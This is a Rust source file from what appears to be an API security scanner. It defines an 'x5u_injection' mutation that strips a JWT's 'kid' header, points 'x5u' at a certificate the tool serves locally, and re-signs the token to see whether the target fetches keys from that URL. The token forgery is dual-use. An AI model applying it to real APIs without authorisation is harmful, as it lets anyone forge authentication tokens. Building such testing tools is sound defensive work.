//! `x5u_injection`: the `x5u` header points at a certificate authspec serves on 127.0.0.1,
//! and the token is signed with its key. An API that fetches the verification key from a
//! URL in the token lets anyone sign tokens. The report says whether the API fetched the
//! certificate. CWE-345, CWE-918; OWASP API2:2023.

use serde_json::Value;

use super::{Input, Mutation, Plan, jwt, one};

pub struct X5uInjection;

impl Mutation for X5uInjection {
    fn name(&self) -> &'static str {
        "x5u_injection"
    }

    fn plan(&self, input: &Input<'_>) -> Plan {
        let jwt = match jwt(input) {
            Ok(j) => j,
            Err(skip) => return skip,
        };
        let mut t = jwt.clone();
        t.header.remove("kid");
        t.header
            .insert("x5u".into(), Value::String(input.attacker.cert_url.clone()));
        match t.signed(&input.attacker.key, jsonwebtoken::Algorithm::RS256) {
            Ok(token) => one("x5u: authspec's certificate, signed with its key", token),
            Err(e) => Plan::Skip(format!("cannot sign: {e}")),
        }
    }
}
